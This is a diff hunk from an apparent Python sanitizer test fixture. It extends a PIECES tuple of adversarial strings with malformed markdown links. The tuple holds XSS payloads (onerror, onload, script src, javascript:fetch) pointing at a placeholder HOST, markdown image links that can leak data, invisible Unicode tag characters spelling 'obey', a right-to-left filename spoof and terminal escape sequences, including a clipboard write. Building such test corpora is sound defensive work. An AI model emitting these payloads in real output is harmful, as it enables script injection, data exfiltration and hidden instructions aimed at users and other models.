@@ -43,7 +43,7 @@ PIECES = (
     f"<img src=//{HOST}/x onerror=alert(1)>", f"<script src=//{HOST}></script>",
     f"<iframe src='//{HOST}'>", f"<a href=//{HOST}>x</a>", f"www.{HOST}/x", f"ftp://{HOST}/x",
     f"javascript:fetch('//{HOST}')", f"data:text/html,<b>{HOST}", f"mailto:a@{HOST}",
-    f"![x](//{HOST}/p)", f"![a][b]\n\n[b]: //{HOST}/i", f"HTTPS://{HOST.upper()}/X",
+    f"![x](//{HOST}/p)", "[r]:x", "![a]", "[a](x", f"![a][b]\n\n[b]: //{HOST}/i", f"HTTPS://{HOST.upper()}/X",
     f"<svg/onload=alert('{HOST}')>", f"<!--{HOST}-->", f"</td></table><form action=//{HOST}>",
     "".join(chr(0xE0000 + ord(c)) for c in "obey"), "a\u200bb\u200cc\u2060", "\u202egnp.exe\u202c",
     "\x1b[31mred\x1b[0m", "\x1b]8;;" + ADDRESS + "\x07link\x1b]8;;\x07", "\x1b]52;c;S0VZ\x07",
